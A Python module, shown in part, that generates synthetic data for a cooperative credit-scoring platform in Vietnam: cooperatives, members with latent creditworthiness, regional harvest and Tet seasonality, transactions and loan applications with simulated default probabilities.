"""The synthetic e-cooperative platform: every table of the data contracts, generated at once.

No real data exists for us, so this module writes a data set that conforms to
`data_contracts.contracts` and behaves like the platform we expect. The generative story:

1. Cooperatives. Each gets a province (34, since 2025), a sector (two thirds agricultural, more
   aquaculture in the Mekong delta, more forestry in the mountains), a founding date years before the
   data starts, and a latent *health* ``z_coop ~ N(0, 1)``.
2. Members. Each belongs to a cooperative (mostly in its province), is a household or a household
   business, and has a latent *creditworthiness* ``z = 0.45 z_coop + 0.89 e + small region offset``.
   The protected attributes (gender of the household head, ethnic minority, mountainous commune) are
   drawn from the region only, never from ``z``: whatever they correlate with, they correlate with
   through region, so a fairness evaluation measures the model, not the generator.
3. Behaviour. ``z`` drives revenue size, activity, month-to-month volatility, margins, the share of
   sales on e-invoices / cash registers, the number of distinct customers (and how concentrated they
   are), the rate of cancelled invoices and the delays on earlier loans. Mountainous communes are a
   little poorer and more cash-based for reasons that have nothing to do with ``z``: a model that
   reads "cash" as "risk" will show up in the fairness report. Some entities suffer a negative shock
   (revenue falls 25-70 % for 4-18 months).
4. Months. Sales follow the harvests of each region (rice in the Mekong delta in Mar/Jul/Nov, the
   north in Jun/Oct, coffee in the highlands Nov-Jan, ...) and the shopping weeks before Tet; the
   week after Tet is quiet. E-invoices and cash registers grow every year, with jumps for household
   businesses in 2025-06 (cash registers linked to the tax authority for revenue >= 1 billion) and
   2026-01 (end of lump-sum tax).
5. Transactions: per entity and month a Poisson number of inflows and outflows, amounts log-normal
   around the month's expected revenue or expenses, a channel and a hashed counterparty drawn from the
   entity's own pool of customers / suppliers (null for cash). Loans add their disbursal and their
   monthly repayments.
6. E-invoices: one per e-invoice sale; a cancelled-and-reissued pair for some (more for low ``z``),
   some adjusted.
7. Loan applications (members and cooperatives), dated so that each has 12 months of history before it
   and a full 12-month outcome window inside the data. The true PD is
   ``logistic(b0 - 1.2 z - 0.35 z_coop + 2.5 shock + 0.5 log(leverage) + 0.5 burden + sector/season)``,
   with ``b0`` set so that the mean PD hits the target rate; the label is drawn from it. Every
   application is disbursed; the monthly days-past-due path agrees with the label (a defaulter
   reaches 91 days within 12 months of the application, a non-defaulter never does) and low ``z``
   borrowers are late more often on the loans that do not default. A later application of a borrower
   whose earlier loan has already defaulted is dropped (no bank would lend).
8. The legacy book: members and cooperatives borrowed before the platform recorded anything. About
   30 % of the members and two thirds of the cooperatives that existed then get one or two loans
   applied for and disbursed in the 24 months before the data starts, drawn like those of step 7 (on a
   calendar that starts 24 months earlier). Their applications are unlabelled (the outcome window lies
   before the records) and have no true PD; their repayment rows and repayment transactions start at
   the data start, and no disbursal is recorded. A legacy default also drops later applications. So
   the loan book is seasoned from the start, and loan features do not drift as the book grows.
9. Each application is addressed to one lender (`vocabulary.LENDERS`: the demo bank about a third,
   the cooperative development funds the rest), drawn on its own stream.
10. Optionally, a lender's past policy (`past_policy_decline_share`, off by default): an older
   score (a noisy view of the same risk, recorded as `policy_score`) plus the officer's noise
   declines that share of the in-window applications, and a small random share of those would-be
   declines (`random_accept_share`) is funded anyway. A declined application stays in the
   applications table with its decision and no label; it gets no loan, no repayments and no money;
   the outcome it would have had is kept in the truth table only (`true_pd.outcome_if_funded`).
11. Optionally, the dirt real feeds have (duplicates, negative or absurd amounts, future timestamps,
   unknown ids, missing fields, invalid values, application ids that are spreadsheet formulas,
   unknown lenders), counted per table and kind.

Everything is vectorised with numpy and pyarrow: the loops run over months, years, the (at most three)
applications of a borrower, or tables, never over rows or entities. 100,000 members (about 10^7
transactions) take about a minute on two cores.

At nationwide size the transactions do not fit in memory (about 170 bytes each at the peak of the
in-memory path): `generate(stream=True)` (`coopscore generate --stream`) builds steps 1-4 and 7-10
as above, then draws the transactions and e-invoices (and their dirt) chunk by chunk of entities
through the same functions, and writes them as Hive-style Parquet parts partitioned by month and
province (`generate_streamed`). 10^6 members are 1.2x10^8 transactions (docs/scaling.md).
"""
from __future__ import annotations

import shutil
import time
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Callable

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

from coopscore import shifts
from data_contracts import vocabulary as v
from data_contracts.contracts import CONTRACTS, DECISIONS, Contract

Progress = Callable[[str, float], None]

NS_PER_DAY = 86_400 * 10**9
NS_PER_HOUR = 3_600 * 10**9

# ----------------------------------------------------------------------------------------------
# Geography, sectors and seasons
# ----------------------------------------------------------------------------------------------
REGIONS: tuple[str, ...] = ("north_mountain", "red_river_delta", "central", "highlands",
                            "south_east", "mekong_delta")
REGION_OF = np.array([REGIONS.index(v.REGION_OF_PROVINCE[p]) for p in v.PROVINCES])
_REGION_SIZE = np.bincount(REGION_OF, minlength=len(REGIONS))
_REGION_PROVINCES = np.full((len(REGIONS), _REGION_SIZE.max()), -1)
for _r in range(len(REGIONS)):
    _REGION_PROVINCES[_r, :_REGION_SIZE[_r]] = np.flatnonzero(REGION_OF == _r)

# Protected attributes depend on the region only (shares of households).
ETHNIC_MINORITY_SHARE = np.array([0.55, 0.03, 0.10, 0.35, 0.04, 0.08])
MOUNTAINOUS_SHARE = np.array([0.75, 0.05, 0.25, 0.55, 0.05, 0.02])
# A small regional difference in creditworthiness: the only path from protected attributes to risk.
REGION_LATENT_OFFSET = np.array([-0.15, 0.05, -0.05, -0.10, 0.10, 0.0])

# Cooperative sectors by region: agriculture, aquaculture, forestry, handicraft, trade, transport.
COOP_SECTOR_P = np.array([
    [0.46, 0.04, 0.17, 0.13, 0.14, 0.06],  # north_mountain
    [0.45, 0.08, 0.02, 0.18, 0.20, 0.07],  # red_river_delta
    [0.42, 0.15, 0.08, 0.12, 0.16, 0.07],  # central
    [0.55, 0.02, 0.12, 0.08, 0.16, 0.07],  # highlands
    [0.38, 0.08, 0.04, 0.14, 0.27, 0.09],  # south_east
    [0.45, 0.20, 0.02, 0.10, 0.17, 0.06],  # mekong_delta
])
# Member business sector given the cooperative's sector (columns: vocabulary.MEMBER_SECTORS).
MEMBER_SECTOR_P = np.array([
    [0.55, 0.25, 0.02, 0.10, 0.01, 0.05, 0.02],  # agriculture
    [0.05, 0.05, 0.70, 0.12, 0.01, 0.05, 0.02],  # aquaculture
    [0.50, 0.15, 0.01, 0.10, 0.14, 0.05, 0.05],  # forestry
    [0.05, 0.03, 0.01, 0.10, 0.65, 0.10, 0.06],  # handicraft
    [0.04, 0.03, 0.02, 0.12, 0.06, 0.45, 0.28],  # trade_services
    [0.03, 0.02, 0.01, 0.04, 0.02, 0.18, 0.70],  # transport
])
MS = {s: i for i, s in enumerate(v.MEMBER_SECTORS)}
CS = {s: i for i, s in enumerate(v.COOPERATIVE_SECTORS)}
# Revenue level, risk and VAT class of each member sector, then of each cooperative sector.
MEMBER_SECTOR_REVENUE = np.array([0.0, 0.1, 0.3, 0.2, -0.1, 0.3, 0.1])
MEMBER_SECTOR_RISK = np.array([0.10, 0.20, 0.25, 0.0, 0.0, -0.10, -0.05])
COOP_SECTOR_RISK = np.array([0.10, 0.25, 0.10, 0.0, -0.10, 0.0])
MEMBER_SECTOR_VAT_CLASS = np.array([0, 0, 0, 1, 2, 2, 3])
COOP_SECTOR_VAT_CLASS = np.array([0, 0, 0, 2, 2, 3])
# Share of each VAT rate (0, 5, 8, 10 %) per class: farm produce, processed food, goods, services.
VAT_P = np.array([[0.30, 0.70, 0.00, 0.00],
                  [0.00, 0.50, 0.40, 0.10],
                  [0.00, 0.10, 0.60, 0.30],
                  [0.00, 0.00, 0.55, 0.45]])
# Retail-like sectors sell through cash registers, the rest through e-invoices.
CASH_REGISTER_SHARE = np.array([0.10, 0.15, 0.10, 0.45, 0.20, 0.55, 0.45])

# Loan purposes (vocabulary.LOAN_PURPOSES) by member sector, last row cooperatives.
PURPOSE_P = np.array([
    [0.20, 0.45, 0.15, 0.02, 0.10, 0.08],  # crop_farming
    [0.15, 0.15, 0.10, 0.45, 0.10, 0.05],  # livestock
    [0.25, 0.40, 0.12, 0.03, 0.12, 0.08],  # aquaculture
    [0.40, 0.20, 0.20, 0.00, 0.15, 0.05],  # food_processing
    [0.40, 0.20, 0.20, 0.00, 0.12, 0.08],  # handicraft
    [0.55, 0.05, 0.10, 0.00, 0.22, 0.08],  # retail
    [0.45, 0.05, 0.25, 0.00, 0.17, 0.08],  # services
    [0.35, 0.30, 0.20, 0.03, 0.10, 0.02],  # cooperatives
])
MEMBER_TERMS, MEMBER_TERM_P = np.array([6, 12, 18, 24, 36]), [0.12, 0.38, 0.15, 0.22, 0.13]
COOP_TERMS, COOP_TERM_P = np.array([12, 24, 36, 48, 60]), [0.25, 0.30, 0.25, 0.10, 0.10]
# Who each application is addressed to (vocabulary.LENDERS, in order): the demo bank gets about a
# third, so that `make demo`'s console has a full queue; the funds share the rest.
LENDER_P = np.array([0.34, 0.22, 0.16, 0.16, 0.12])
assert len(LENDER_P) == len(v.LENDERS) and abs(LENDER_P.sum() - 1.0) < 1e-12

# Harvest months (1-12) by region: sales of farming entities peak there.
HARVEST_MONTHS = {
    "north_mountain": (6, 10), "red_river_delta": (6, 10), "central": (4, 8),
    "highlands": (11, 12, 1), "south_east": (4, 12), "mekong_delta": (3, 7, 11),
}
# Lunar New Year (Tet), first day.
TET = {
    2018: "2018-02-16", 2019: "2019-02-05", 2020: "2020-01-25", 2021: "2021-02-12",
    2022: "2022-02-01", 2023: "2023-01-22", 2024: "2024-02-10", 2025: "2025-01-29",
    2026: "2026-02-17", 2027: "2027-02-06", 2028: "2028-01-26", 2029: "2029-02-13",
    2030: "2030-02-03", 2031: "2031-01-23", 2032: "2032-02-11", 2033: "2033-01-31",
    2034: "2034-02-19", 2035: "2035-02-08",
}

# Codes of the small vocabularies, as stored in the per-row arrays.
INFLOW, OUTFLOW = 0, 1
CH = {c: i for i, c in enumerate(v.CHANNELS)}
CAT = {c: i for i, c in enumerate(v.TRANSACTION_CATEGORIES)}
MEMBER, COOP = 0, 1
OUTFLOW_CATEGORIES = np.array([CAT[c] for c in ("inputs", "wages", "utilities", "transfer", "other")])
OUTFLOW_CATEGORY_P = np.array([[0.45, 0.10, 0.15, 0.15, 0.15],   # members
                               [0.45, 0.25, 0.10, 0.10, 0.10]])  # cooperatives
OUTFLOW_CATEGORY_SIZE = np.array([1.4, 1.2, 0.25, 0.9, 0.6])  # relative ticket size

# The legacy book: loans of the LEGACY_MONTHS before the data starts, 0/1/2 per member or cooperative.
NEW_COOP_SHARE = 0.1  # cooperatives founded during the first NEW_COOP_MONTHS of the data
NEW_COOP_MONTHS = 12
LEGACY_MONTHS = 24
LEGACY_COUNT_P = {MEMBER: [0.70, 0.25, 0.05], COOP: [0.35, 0.40, 0.25]}

# The lender's past policy (step 10): its older score's own error and the officer's discretion around
# the cut-off, both in log-odds; the older score weighs the drivers it saw (the latent
# creditworthiness and the cooperative's health, which the platform's features carry only in part).
POLICY_SCORE_NOISE = 0.3
POLICY_DECISION_NOISE = 0.7
POLICY_WEIGHTS = {"creditworthiness": 1.0, "cooperative_health": 1.0, "revenue_shock": 1.0,
                  "leverage": 1.0, "burden": 1.0}
FUNDED, DECLINED, RANDOM_ACCEPT = 0, 1, 2  # codes of data_contracts.contracts.DECISIONS

MEMBER_DEFAULT_RATE = 0.065
COOP_DEFAULT_RATE = 0.05
MAX_CLEAN_AMOUNT = v.ABSURD_AMOUNT_VND // 10


@dataclass
class GenerationSummary:
    out_dir: Path
    rows: dict[str, int]
    dirt: dict[str, dict[str, int]] = field(default_factory=dict)
    seconds: float = 0.0


# ----------------------------------------------------------------------------------------------
# Small helpers
# ----------------------------------------------------------------------------------------------
def _rng(seed: int, step: str) -> np.random.Generator:
    """One independent stream per step: changing one step never changes another's draws."""
    return np.random.default_rng([seed, *step.encode()])


def _sigmoid(x: np.ndarray) -> np.ndarray:
    return 1.0 / (1.0 + np.exp(-x))


def _categorical(rng: np.random.Generator, probs: np.ndarray, rows: np.ndarray) -> np.ndarray:
    """One draw per row from the row's class: probs is (classes, k), rows holds class indices."""
    cum = np.cumsum(probs / probs.sum(axis=1, keepdims=True), axis=1)
    cum[:, -1] = 1.0 + 1e-9
    u = rng.random(len(rows))
    out = np.zeros(len(rows), dtype=np.int8)
    for j in range(probs.shape[1] - 1):  # a loop over the k categories, not over rows
        out += (u >= cum[rows, j]).astype(np.int8)
    return out


def _round_to(x: np.ndarray, unit: int, low: int) -> np.ndarray:
    return np.maximum(low, np.round(x / unit) * unit).astype(np.int64)


_DIGIT_PAIRS = np.array([[ord(str(i // 10)), ord(str(i % 10))] for i in range(100)], dtype=np.uint8)
_HEX = np.array([[ord(c) for c in f"{i:02x}"] for i in range(256)], dtype=np.uint8)


def _fixed_strings(chars: np.ndarray, valid: np.ndarray | None = None) -> pa.Array:
    """A pyarrow string array from an (n, width) uint8 matrix of ASCII, without Python strings."""
    n, width = chars.shape
    offsets = np.arange(0, width * (n + 1), width, dtype=np.int64)
    bitmap, nulls = None, 0
    if valid is not None:
        bitmap = pa.py_buffer(np.packbits(valid, bitorder="little"))
        nulls = int(n - valid.sum())
    return pa.LargeStringArray.from_buffers(
        n, pa.py_buffer(offsets), pa.py_buffer(np.ascontiguousarray(chars)), bitmap, nulls
    ).cast(pa.string())


def _ids(prefix: str, numbers: np.ndarray, width: int) -> pa.Array:
    """prefix + zero-padded number, e.g. _ids("TV", [1], 7) -> ["TV0000001"] (wider numbers are cut)."""
    p = np.frombuffer(prefix.encode(), dtype=np.uint8)
    out = np.empty((len(numbers), len(p) + width), dtype=np.uint8)
    out[:, :len(p)] = p
    num = np.asarray(numbers, dtype=np.int64)
    right = out.shape[1]
    while right - len(p) >= 2:  # two digits at a time, from the right
        out[:, right - 2:right] = _DIGIT_PAIRS[num % 100]
        num, right = num // 100, right - 2
    if right > len(p):
        out[:, right - 1] = num % 10 + ord("0")
    return _fixed_strings(out)


def _mix64(x: np.ndarray) -> np.ndarray:
    """splitmix64: a fast, well-spread 64-bit hash (stands in for the platform's counterparty hash)."""
    x = x.astype(np.uint64) + np.uint64(0x9E3779B97F4A7C15)
    x = (x ^ (x >> np.uint64(30))) * np.uint64(0xBF58476D1CE4E5B9)
    x = (x ^ (x >> np.uint64(27))) * np.uint64(0x94D049BB133111EB)
    return x ^ (x >> np.uint64(31))


def hex_hashes(keys: np.ndarray, valid: np.ndarray) -> pa.Array:
    """16 hex characters per key; null where not valid."""
    as_bytes = keys.astype(">u8").view(np.uint8).reshape(-1, 8)
    return _fixed_strings(_HEX[as_bytes].reshape(len(keys), 16), valid)


def _ns(day: str) -> int:
    return int(np.datetime64(day, "ns").astype(np.int64))


def _vocab(values: tuple[str, ...], codes: np.ndarray) -> pa.Array:
    return pc.take(pa.array(values, pa.string()), pa.array(np.asarray(codes, dtype=np.int32)))


# ----------------------------------------------------------------------------------------------
# Calendar
# ----------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Calendar:
    """The months of the data period; month t covers [month_start[t], month_start[t + 1])."""
    start: date
    months: int
    month_start: np.ndarray  # int64 ns, months + 14 entries (loans look past the end)
    cal_month: np.ndarray  # 1-12, per month of the period
    year: np.ndarray
    years_since_2022: np.ndarray  # float, drives the digital-payment trend

    @property
    def end(self) -> int:
        return int(self.month_start[self.months])

    @property
    def days(self) -> np.ndarray:
        return (np.diff(self.month_start[:self.months + 1]) // NS_PER_DAY).astype(np.int64)

    def month_end(self, t: np.ndarray) -> np.ndarray:
        """The last day (midnight) of month t."""
        return self.month_start[np.asarray(t) + 1] - NS_PER_DAY

    def month_of(self, ns: np.ndarray) -> np.ndarray:
        return np.searchsorted(self.month_start, ns, side="right") - 1


def make_calendar(start: date, months: int) -> Calendar:
    first = np.datetime64(start, "M")
    grid = first + np.arange(months + 14)
    since_1970 = grid[:months].astype(np.int64)
    return Calendar(
        start=start, months=months,
        month_start=grid.astype("datetime64[ns]").astype(np.int64),
        cal_month=since_1970 % 12 + 1, year=since_1970 // 12 + 1970,
        years_since_2022=(since_1970 - (2022 - 1970) * 12 + 0.5) / 12.0,
    )


def add_months(ns: np.ndarray, n: int) -> np.ndarray:
    """Same day n months later, clipped to the month's length (like pandas.DateOffset)."""
    d = np.asarray(ns).astype("datetime64[ns]").astype("datetime64[D]")
    m = d.astype("datetime64[M]")
    day = (d - m.astype("datetime64[D]")).astype(np.int64)
    target = m + n
    length = ((target + 1).astype("datetime64[D]") - target.astype("datetime64[D]")).astype(np.int64)
    out = target.astype("datetime64[D]") + np.minimum(day, length - 1)
    return out.astype("datetime64[ns]").astype(np.int64)


def _tet_day(year: int) -> int:
    return _ns(TET.get(year, f"{year}-02-01"))  # outside the table: close enough for a season


def tet_shares(cal: Calendar) -> tuple[np.ndarray, np.ndarray]:
    """Per month: the share of its days among the 30 shopping days before Tet, and among the 7
    quiet days after it."""
    lo, hi = cal.month_start[:cal.months], cal.month_start[1:cal.months + 1]
    before, after = np.zeros(cal.months), np.zeros(cal.months)
    for year in range(int(cal.year.min()) - 1, int(cal.year.max()) + 2):
        tet = _tet_day(year)
        before += np.clip(np.minimum(hi, tet) - np.maximum(lo, tet - 30 * NS_PER_DAY), 0, None)
        after += np.clip(np.minimum(hi, tet + 7 * NS_PER_DAY) - np.maximum(lo, tet), 0, None)
    return before / (hi - lo), after / (hi - lo)


def harvest_weights() -> np.ndarray:
    """(region, calendar month 1-12 at index 0-11): 1 in a harvest month, 0.35 next to one."""
    w = np.zeros((len(REGIONS), 12))
    for r, name in enumerate(REGIONS):
        for m in HARVEST_MONTHS[name]:
            i = m - 1
            w[r, i] = 1.0
            for j in ((i - 1) % 12, (i + 1) % 12):
                w[r, j] = max(w[r, j], 0.35)
    return w


def make_seasons(cal: Calendar) -> tuple[np.ndarray, np.ndarray]:
    """Sales and expense multipliers, (profile, month); profile = 2 * region + is_farming."""
    before, after = tet_shares(cal)
    harvest = 0.45 + 1.3 * harvest_weights()
    harvest /= harvest.mean(axis=1, keepdims=True)
    quiet = -0.7 * after  # the week after Tet: most businesses closed
    sales = np.empty((2 * len(REGIONS), cal.months))
    for r in range(len(REGIONS)):
        sales[2 * r] = 1.0 + 1.0 * before + quiet  # shops, crafts, services: Tet is the season
        sales[2 * r + 1] = harvest[r, cal.cal_month - 1] * (1.0 + 0.3 * before + quiet)
    expenses = np.broadcast_to(1.0 + 0.5 * before + quiet, sales.shape).copy()  # Tet wages, gifts
    return sales, expenses


# ----------------------------------------------------------------------------------------------
# Cooperatives and members
# ----------------------------------------------------------------------------------------------
def make_cooperatives(rng: np.random.Generator, n: int, cal: Calendar) -> pd.DataFrame:
    province = rng.choice(len(v.PROVINCES), n, p=rng.dirichlet(np.full(len(v.PROVINCES), 6.0)))
    region = REGION_OF[province]
    age_days = (365.25 * np.clip(0.5 + rng.exponential(8.0, n), 0.5, 45.0)).astype(np.int64)
    start = cal.month_start[0]
    founding = start - age_days * NS_PER_DAY
    # New cooperatives keep being founded (Law on Cooperatives 2023) and join the platform: without
    # them the population only ages and every tenure feature drifts between periods.
    new = rng.random(n) < NEW_COOP_SHARE
    month = rng.integers(0, min(NEW_COOP_MONTHS, cal.months - 14), n)
    during = cal.month_start[month] + (rng.random(n) * cal.days[month]).astype(np.int64) * NS_PER_DAY
    return pd.DataFrame({
        "province": province, "region": region,
        "sector": _categorical(rng, COOP_SECTOR_P, region),
        "founding": np.where(new, during, founding) // NS_PER_DAY * NS_PER_DAY,
        "active_from": np.where(new, month + 1, 0),  # trading on the platform from the next month
        "z": rng.standard_normal(n),
        "size_weight": rng.lognormal(0.0, 0.8, n) * np.where(new, 0.3, 1.0),  # some are much bigger
        "off_platform": rng.poisson(12, n),  # official members not (yet) on the platform
        "capital_noise": rng.normal(0.0, 0.6, n),
    })


def make_members(rng: np.random.Generator, n: int, coops: pd.DataFrame, cal: Calendar) -> pd.DataFrame:
    coop = rng.choice(len(coops), n, p=(coops.size_weight / coops.size_weight.sum()).to_numpy())
    coop_region = coops.region.to_numpy()[coop]
    # Mostly the cooperative's province, otherwise a neighbouring one in the same region.
    other = _REGION_PROVINCES[coop_region, (rng.random(n) * _REGION_SIZE[coop_region]).astype(int)]
    province = np.where(rng.random(n) < 0.9, coops.province.to_numpy()[coop], other)
    region = REGION_OF[province]
    coop_sector = coops.sector.to_numpy()[coop]
    is_farming_coop = coop_sector <= CS["forestry"]
    ethnic = rng.random(n) < ETHNIC_MINORITY_SHARE[region]
    # Ethnic-minority households live in mountainous communes more often (same region, same share).
    mountain_p = MOUNTAINOUS_SHARE[region] * np.where(ethnic, 1.3, 0.85)
    z_coop = coops.z.to_numpy()[coop]
    join, active_from = _join_dates(rng, n, coops.founding.to_numpy()[coop], cal)
    return pd.DataFrame({
        "coop": coop, "province": province, "region": region,
        "is_hb": rng.random(n) < np.where(is_farming_coop, 0.30, 0.65),
        "sector": _categorical(rng, MEMBER_SECTOR_P, coop_sector),
        "joined": join, "active_from": active_from,
        "female": rng.random(n) < 0.42,
        "ethnic": ethnic,
        "mountainous": rng.random(n) < np.clip(mountain_p, 0, 0.95),
        "z_coop": z_coop,
        "z": 0.45 * z_coop + np.sqrt(1 - 0.45**2) * rng.standard_normal(n)
             + REGION_LATENT_OFFSET[region],
        "capital_noise": rng.normal(0.0, 0.7, n),
    })


def _join_dates(rng: np.random.Generator, n: int, founding: np.ndarray, cal: Calendar
                ) -> tuple[np.ndarray, np.ndarray]:
    """85 % joined before the data starts; the rest during the first two years (active next month).
    Members of a cooperative founded during the data join in the months after its founding."""
    start = cal.month_start[0]
    before = founding + (rng.random(n) * (start - founding - NS_PER_DAY)).astype(np.int64)
    month = rng.integers(0, min(24, cal.months - 1), n)
    young = founding >= start
    founded = cal.month_of(np.where(young, founding, start))
    month = np.where(young, founded + 1 + (rng.random(n) * np.maximum(min(24, cal.months - 1) - founded - 1, 1)
                                           ).astype(np.int64), month)
    during = cal.month_start[month] + (rng.random(n) * cal.days[month]).astype(np.int64) * NS_PER_DAY
    late = (rng.random(n) < 0.15) | young
    join = np.where(late, during, before) // NS_PER_DAY * NS_PER_DAY
    return join, np.where(late, month + 1, 0)


def finish_cooperatives(coops: pd.DataFrame, members: pd.DataFrame) -> pd.DataFrame:
    """Member counts and charter capital, now that the members exist."""
    coops = coops.copy()
    on_platform = np.bincount(members.coop.to_numpy(), minlength=len(coops))
    coops["member_count"] = np.maximum(5, on_platform + coops.off_platform.to_numpy())
    coops["legal_capital"] = _round_to(np.exp(
        np.log(1.0e9) + 0.3 * coops.z + 0.5 * np.log(coops.member_count / 20.0) + coops.capital_noise
    ).to_numpy(), 1_000_000, 10_000_000)
    return coops


def member_capital(members: pd.DataFrame, coops: pd.DataFrame) -> np.ndarray:
    """Capital contributed; the Law on Cooperatives 2023 caps one member at 30 % of the charter."""
    wish = np.exp(np.log(10e6) + 0.3 * members.z + members.capital_noise).to_numpy()
    cap = 0.3 * coops.legal_capital.to_numpy()[members.coop.to_numpy()]
    return (np.minimum(wish, cap) // 100_000 * 100_000).astype(np.int64)


# ----------------------------------------------------------------------------------------------
# Behaviour: one row per entity (members first, then cooperatives)
# ----------------------------------------------------------------------------------------------
def make_behaviour(rng: np.random.Generator, members: pd.DataFrame, coops: pd.DataFrame,
                   cal: Calendar) -> pd.DataFrame:
    """What each entity's latent makes of it: size, activity, volatility, channels, customers."""
    n_m, n_c = len(members), len(coops)
    m_farming = members.sector.isin([MS["crop_farming"], MS["aquaculture"]]).to_numpy()
    c_farming = (coops.sector <= CS["forestry"]).to_numpy()
    kind = np.r_[np.full(n_m, MEMBER), np.full(n_c, COOP)]
    z = np.r_[members.z, coops.z]
    coop_entity = np.r_[members.coop.to_numpy() + n_m, np.arange(n_c) + n_m]
    is_hb = np.r_[members.is_hb, np.zeros(n_c, bool)]
    mountain = np.r_[members.mountainous, np.zeros(n_c, bool)].astype(float)
    region = np.r_[members.region, coops.region]
    m_sector = members.sector.to_numpy()
    n = n_m + n_c
    is_coop = kind == COOP
    noise = rng.standard_normal((8, n))

    log_revenue = np.where(
        is_coop,
        np.log(300e6) + 0.4 * z + 0.5 * np.log(np.r_[np.ones(n_m), coops.member_count] / 20.0)
        + 0.5 * noise[0],
        np.log(11e6) + 0.45 * z + 0.55 * is_hb + np.r_[MEMBER_SECTOR_REVENUE[m_sector], np.zeros(n_c)]
        - 0.25 * mountain + 0.45 * noise[0])
    ent = pd.DataFrame({
        "kind": kind, "z": z, "coop_entity": coop_entity, "region": region, "is_hb": is_hb,
        "profile": 2 * region + np.r_[m_farming, c_farming],
        "sector": np.r_[m_sector, coops.sector.to_numpy()],  # member sector, or cooperative sector
        "z_coop": np.r_[members.z_coop, coops.z],
        "active_from": np.r_[members.active_from, coops.active_from.to_numpy()],
        "revenue": np.exp(log_revenue),  # expected monthly sales, VND
        # activity: sales and purchases per month
        "lam_in": np.where(is_coop, 10.0, 1.25) * np.exp(0.35 * z + 0.3 * is_hb + 0.25 * noise[1]),
        "lam_out": np.where(is_coop, 7.0, 0.85) * np.exp(0.10 * z + 0.3 * noise[2]),
        # month-to-month volatility of sales (log sd): the weak are irregular
        "vol": 0.18 + 0.40 * _sigmoid(-1.2 * z + 0.3 * noise[3]),
        "expense_ratio": np.clip(0.75 - 0.10 * z + 0.05 * noise[4], 0.4, 1.1),
        # channel propensities (logits), before the calendar trend
        "formal0": np.where(is_coop, 0.8, -1.6) + 0.7 * z + 0.8 * is_hb - 0.4 * mountain
                   + 0.5 * noise[5],
        "cash0": np.where(is_coop, -1.5, 0.2) - 0.5 * z - 0.4 * is_hb + 0.6 * mountain
                 + 0.5 * noise[6],
        "cash_register": np.where(is_coop, 0.10, CASH_REGISTER_SHARE[np.r_[m_sector, np.zeros(n_c, int)]]
                                  * np.where(is_hb, 1.0, 0.5)),
        # customers: how many, and how concentrated on the first few (exponent > 1)
        "customers": np.where(is_coop, 20, 2) + np.round(np.exp(
            np.where(is_coop, 3.5, 1.8) + 0.5 * z + 0.4 * is_hb + 0.3 * noise[7])),
        "concentration": 1.3 + 1.2 * _sigmoid(-z),
        "suppliers": np.where(is_coop, 15, 2) + rng.poisson(4, n),
        "p_cancel": _sigmoid(-3.4 - 1.0 * z + 0.3 * rng.standard_normal(n)),
        "p_adjust": _sigmoid(-4.0 - 0.3 * z),
        "p_buyer_tax": np.where(is_coop, 0.70, np.where(is_hb, 0.35, 0.20)) * np.exp(0.1 * z).clip(0, 1.4),
        "vat_class": np.r_[MEMBER_SECTOR_VAT_CLASS[m_sector], COOP_SECTOR_VAT_CLASS[coops.sector.to_numpy()]],
        "p_delay": _sigmoid(-3.0 - 1.1 * z),  # a month late on a loan that does not default
    })
    ent["p_buyer_tax"] = ent.p_buyer_tax.clip(0, 0.95)
    return ent.join(make_shocks(rng, z, cal))


def make_shocks(rng: np.random.Generator, z: np.ndarray, cal: Calendar) -> pd.DataFrame:
    """A bad spell for some entities (weaker ones a little more often): sales fall for months."""
    n = len(z)
    return pd.DataFrame({
        "shock": rng.random(n) < _sigmoid(-1.5 - 0.3 * z),
        "shock_start": rng.integers(0, cal.months, n),
        "shock_length": rng.integers(4, 19, n),
        "shock_depth": rng.uniform(0.25, 0.70, n),
    })


def shock_factors(ent: pd.DataFrame, months: int) -> np.ndarray:
    """(entity, month): 1 normally, down to 1 - depth during a shock (two months to sink in)."""
    rel = np.arange(months)[None, :] - ent.shock_start.to_numpy()[:, None]
    ramp = np.clip((rel + 1) / 2.0, 0.0, 1.0)
    inside = (rel >= 0) & (rel < ent.shock_length.to_numpy()[:, None]) & ent.shock.to_numpy()[:, None]
    return (1.0 - ent.shock_depth.to_numpy()[:, None] * ramp * inside).astype(np.float32)


# ----------------------------------------------------------------------------------------------
# Loan applications, true PD, loans and repayments
# ----------------------------------------------------------------------------------------------
def application_months(rng: np.random.Generator, ent: pd.DataFrame, cal: Calendar) -> pd.DataFrame:
    """Who applies, and in which month: 12 months of history before, 12 months of outcome after."""
    n = len(ent)
    is_coop = ent.kind.to_numpy() == COOP
    lo = np.maximum(12, ent.active_from.to_numpy() + 12)
    hi = cal.months - 13  # the outcome window of the last month still ends inside the data
    count = np.where(is_coop, rng.integers(1, 4, n), rng.choice(4, n, p=[0.72, 0.20, 0.06, 0.02]))
    first = lo + (rng.random(n) * np.maximum(hi - lo + 1, 0)).astype(np.int64)
    # Trouble makes people borrow: some shocked entities apply 1-3 months into their shock.
    trigger = ent.shock_start.to_numpy() + rng.integers(1, 4, n)
    triggered = ent.shock.to_numpy() & (trigger >= lo) & (trigger <= hi) & (rng.random(n) < 0.35)
    count = np.where(triggered, np.maximum(count, 1), count)
    first = np.where(triggered, trigger, first)
    parts, month = [], first
    for k in range(3):  # at most three applications per borrower, 6-15 months apart
        keep = (k < count) & (month <= hi) & (lo <= hi)
        parts.append(pd.DataFrame({"entity": np.flatnonzero(keep), "ordinal": k, "month": month[keep]}))
        month = month + rng.integers(6, 16, n)
    apps = pd.concat(parts, ignore_index=True)
    day = (rng.random(len(apps)) * cal.days[apps.month.to_numpy()]).astype(np.int64)
    apps["date"] = cal.month_start[apps.month.to_numpy()] + day * NS_PER_DAY
    return apps


def _annuity(principal: np.ndarray, annual_rate: np.ndarray, term: np.ndarray) -> np.ndarray:
    r = annual_rate / 12.0
    return principal * r / (1.0 - (1.0 + r) ** (-term))


def make_loan_applications(rng: np.random.Generator, ent: pd.DataFrame, shocks: np.ndarray,
                           cal: Calendar) -> pd.DataFrame:
    """Amount, term, purpose, the true PD and the label of every application."""
    apps = _application_terms(rng, application_months(rng, ent, cal), ent)
    apps["true_pd"], drivers = true_pd_with_drivers(apps, ent, shocks, cal)
    for name in DRIVERS:
        apps[f"driver_{name}"] = drivers[name].to_numpy()
    apps["default"] = rng.random(len(apps)) < apps.true_pd.to_numpy()
    return apps


